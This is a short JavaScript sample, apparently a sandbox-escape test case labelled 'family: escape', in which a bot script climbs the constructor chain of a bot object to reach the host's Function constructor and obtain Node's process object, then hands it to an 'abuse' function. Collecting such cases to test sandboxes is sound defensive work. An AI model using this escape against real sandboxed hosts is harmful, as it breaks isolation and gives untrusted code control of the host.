// family: escape
// an object of the bot gives the host's Function
async function main (bot) {
  abuse(bot, bot.entity.position.constructor.constructor('return process')())
}
